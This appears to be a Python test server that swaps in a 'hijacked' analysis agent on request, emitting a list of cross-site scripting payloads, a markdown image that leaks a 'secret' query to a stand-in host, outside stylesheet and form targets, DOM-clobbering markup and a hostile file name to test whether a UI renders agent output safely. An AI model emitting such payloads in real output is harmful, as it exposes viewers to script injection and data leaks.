"""A server whose analyst says what a hijacked model would say, when asked to."""

from tidings.app import App
from tidings.cli.serve import serve
from tidings.domain.runs import Outcome
from tidings.runs.context import RunContext

ELSEWHERE = "http://elsewhere.example"
SCRIPT = "window.__canary=1"
HOSTILE = (
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    '<iframe srcdoc="<script>parent.__canary=1</script>"></iframe>',
    f"[click me](javascript:{SCRIPT})",
    f"[data](data:text/html,<script>{SCRIPT}</script>)",
    f"![pixel]({ELSEWHERE}/pixel.png?q=secret)",
    f"![by reference][one]\n\n[one]: {ELSEWHERE}/reference.png",
    f'<link rel=stylesheet href="{ELSEWHERE}/style.css"><style>@import "{ELSEWHERE}/i.css"</style>',
    f'<form action="{ELSEWHERE}/form"><button id=ask>Ask</button></form>',
    f'<a id=log name=log href="{ELSEWHERE}">clobber</a>',
    f'| a | b |\n| --- | --- |\n| <img src=x onerror="{SCRIPT}"> | ![x]({ELSEWHERE}/cell.png) |',
    "\u202egnp.elif \u0000 \u001b[31m",
)
NAME = f'"><img src=x onerror={SCRIPT}>.csv'


async def hijacked(ctx: RunContext) -> Outcome:
    text = "\n\n".join(HOSTILE).replace("\0", "")
    await ctx.plan(text[:500], [line.replace("\0", "") for line in HOSTILE])
    await ctx.think(text, 0.5)
    await ctx.notice("hostile", text)
    async with ctx.sub("triage", text[:200]) as sub:
        await sub.tool("<img src=x onerror=alert(1)>", {"<b>": text}, purpose=text)
        await sub.complete(text)
    await ctx.delta("m", text)
    return Outcome(text)


def register(app: App) -> None:
    analysis = app.agents["analysis"]

    async def either(ctx: RunContext) -> Outcome:
        return await (hijacked if "be hostile" in ctx.request.text else analysis)(ctx)

    app.agents.register("analysis", "Hostile when asked to be.", either)


if __name__ == "__main__":
    serve(register)
